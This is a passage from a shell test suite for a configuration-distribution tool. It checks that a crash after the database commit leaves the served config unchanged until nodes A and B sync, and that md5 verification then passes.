		assert_equal "$(ls "$SP/conf-dist/submit/new" | wc -l)" 0
		assert_equal "$(ls "$SP/conf-dist/submit/reject" | wc -l)" 0
	else
		run node A submit web01 "$T/v1.conf"
		assert_success
	fi
	cmp "$T/v1.conf" "$OUTA/conf/$K.conf"
	# Killed right after the database committed, before A served it.
	conf "$T/v2.conf" web01 "module_begin" "module_name V2" "module_type generic_data" "module_exec echo 2" "module_end"
	run env PIPELINE_CRASH_AT=cluster-put "$T/bin/conf-dist" -c "$T/A.conf" submit web01 "$T/v2.conf"
	assert_equal "$status" 99
	cmp "$T/v1.conf" "$OUTA/conf/$K.conf"
	run node A -d sync
	assert_success
	cmp "$T/v2.conf" "$OUTA/conf/$K.conf"
	run node B -d sync
	assert_success
	same_served "$OUTA" "$OUTB" "conf/$K.conf" "md5/$K.md5"
	run node A verify -a web01 -s "$T/state" "$OUTA/conf/$K.conf" "$OUTA/md5/$K.md5"
	assert_success
}
